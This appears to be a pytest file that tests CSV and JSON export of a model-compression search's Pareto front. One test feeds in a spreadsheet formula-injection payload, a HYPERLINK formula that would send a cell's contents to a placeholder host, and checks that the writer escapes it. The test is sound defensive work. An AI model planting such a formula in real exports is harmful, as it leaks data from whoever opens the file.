from __future__ import annotations

import csv
import json
from dataclasses import replace
from math import log10, nan
from pathlib import Path

import pandas
import pytest

from fronts import front as front
from nas_compress.runs.front import Front
from nas_compress.runs.front_tables import write_front_csv, write_front_json


def test_the_csv_has_exactly_these_columns_and_pandas_reads_it(front: Front, tmp_path: Path) -> None:
    write_front_csv(front, tmp_path / "front.csv")
    head = (tmp_path / "front.csv").read_text(encoding="utf-8").splitlines()[0]
    assert (
        head
        == "trial,accuracy,latency_ms,size_bytes,parameters,macs,epochs_spent,model,number_format,weight_bits,family"
    )
    table = pandas.read_csv(tmp_path / "front.csv")
    assert table["trial"].tolist() == ["2", "1", "0", "teacher"]
    assert table["accuracy"].tolist() == [0.97, 0.95, 0.90, 0.986]
    assert table["size_bytes"].tolist() == [200_000, 60_000, 20_000, 1_200_000]
    assert table["family"].tolist()[:3] == ["resnet, small"] * 3
    assert table["weight_bits"].isna().tolist() == [False, False, False, True]


def test_no_text_is_a_formula_and_numbers_stay_numbers(front: Front, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://x?" & A1)'
    point = replace(
        front.points[0], searched=(("@name", -1.5), ("kind", evil), ("+2", True), ("text", "-1.5"), ("tab", "\t=1"))
    )
    write_front_csv(replace(front, points=(point,), teacher=None), tmp_path / "front.csv")
    with (tmp_path / "front.csv").open(encoding="utf-8", newline="") as file:
        head, row = csv.reader(file)
    assert head[-5:] == ["'@name", "kind", "'+2", "text", "tab"]
    assert row[-5:] == ["-1.5", f"'{evil}", "True", "'-1.5", "'\t=1"]


def test_an_empty_front_is_a_head_without_rows(front: Front, tmp_path: Path) -> None:
    write_front_csv(replace(front, points=(), teacher=None), tmp_path / "front.csv")
    lines = (tmp_path / "front.csv").read_text(encoding="utf-8").splitlines()
    assert lines == ["trial,accuracy,latency_ms,size_bytes,epochs_spent,model,number_format"]


def test_the_json_says_all_of_the_front(front: Front, tmp_path: Path) -> None:
    write_front_json(front, tmp_path / "front.json")
    summary = json.loads((tmp_path / "front.json").read_text(encoding="utf-8"))
    assert summary["objectives"] == [
        {"name": "accuracy", "direction": "maximize"},
        {"name": "latency_ms", "direction": "minimize"},
        {"name": "size_bytes", "direction": "minimize"},
    ]
    assert summary["budgets"] == [{"name": "size_bytes", "rule": "at_most", "limit": 256_000}]
    assert summary["points"] == 7
    assert [member["trial"] for member in summary["members"]] == [2, 1, 0]
    assert summary["members"][1]["searched"] == {"weight_bits": 8, "family": "resnet, small"}
    assert summary["knee"] in (0, 1, 2)
    assert summary["teacher"]["accuracy"] == 0.986
    assert summary["reference"] == {"accuracy": 0.1, "latency_ms": 0.25, "size_bytes": 1_200_000}
    # boxes nested along accuracy: each better student adds a layer of its own area in decades
    areas = [log10(0.25 / ms) * log10(1.2e6 / size) for ms, size in ((0.05, 2e4), (0.10, 6e4), (0.12, 2e5))]
    expected = 0.80 * areas[0] + 0.05 * areas[1] + 0.02 * areas[2]
    assert summary["hypervolume"] == pytest.approx(expected)


def test_a_knee_at_an_exit_point_says_which(front: Front, tmp_path: Path) -> None:
    write_front_json(front, tmp_path / "front.json")
    assert "knee_exit_point" not in json.loads((tmp_path / "front.json").read_text(encoding="utf-8"))
    points = tuple(replace(point, exit_point=3) for point in front.points)
    write_front_json(replace(front, points=points), tmp_path / "front.json")
    assert json.loads((tmp_path / "front.json").read_text(encoding="utf-8"))["knee_exit_point"] == 3


def test_the_json_of_nothing_is_valid_json_with_nulls(front: Front, tmp_path: Path) -> None:
    unknown = replace(front.points[0], figures={**front.points[0].figures, "accuracy": nan})
    size_only = replace(front, objectives=front.objectives[2:], points=(unknown,), teacher=None)
    write_front_json(size_only, tmp_path / "front.json")
    text = (tmp_path / "front.json").read_text(encoding="utf-8")
    assert "NaN" not in text
    summary = json.loads(text)
    assert summary["members"][0]["accuracy"] is None
    assert summary["hypervolume"] is summary["reference"] is summary["teacher"] is None
